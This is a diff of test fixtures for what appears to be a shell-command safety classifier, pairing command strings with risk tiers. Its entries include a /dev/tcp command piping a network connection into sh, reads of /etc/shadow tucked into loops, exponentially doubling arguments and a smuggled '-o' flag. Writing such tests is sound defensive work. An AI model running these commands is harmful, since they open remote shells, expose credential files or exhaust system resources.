@@ -210,6 +210,17 @@ VALUES: tuple[tuple[str, Tier, str], ...] = (
     ("ls 4>&4 >&4", Tier.UNKNOWN, "likewise"),
     ("exec 3<>/dev/tcp/example.org/80; sh <&3", Tier.UNKNOWN, "hostile: from a network"),
     ("sleep 1 & x=$!; wait $x", Tier.READ, "a number"),
+    ("set -- a; " + 'set -- "$@" "$@"; ' * 30 + 'ls "$@"', Tier.UNKNOWN, "doubles without end"),
+    ("x=(a); " + 'x=("${x[@]}" "${x[@]}"); ' * 30 + 'ls "${x[@]}"', Tier.UNKNOWN, "likewise"),
+    ("f() { " + "g \"$@\" \"$@\"; }; g() { f \"$@\" \"$@\"; }; f a", Tier.UNKNOWN, "likewise"),
+    ("x=/etc/shadow; " + "x=$x$x; " * 30 + "cat $x", Tier.READ, "likewise, a value: not followed for ever"),
+    ("x=-o; " + "x=$x$x; " * 30 + "sort $x", Tier.UNKNOWN, "hostile: and then not known"),
+    (f"for x in {' '.join(f'a{n}' for n in range(30))}; do cat $x; done", Tier.READ, "thirty readings"),
+    (f"for x in {' '.join(f'a{n}' for n in range(45))} /etc/shadow; do cat $x; done", Tier.UNKNOWN,
+     "more than forty: none is left out without a word"),
+    (f"for x in {' '.join(f'a{n}' for n in range(45))} /etc/shadow; do [[ -f $x ]]; done", Tier.UNKNOWN, "everywhere"),
+    (f"for x in {' '.join(f'a{n}' for n in range(45))} /etc/shadow; do wc < \"$x\"; done", Tier.UNKNOWN, "everywhere"),
+    (f"x='{' '.join(f'a{n}' for n in range(45))} -o'; for y in $x; do sort $y; done", Tier.UNKNOWN, "split from a value"),
 )
 # fmt: on
 
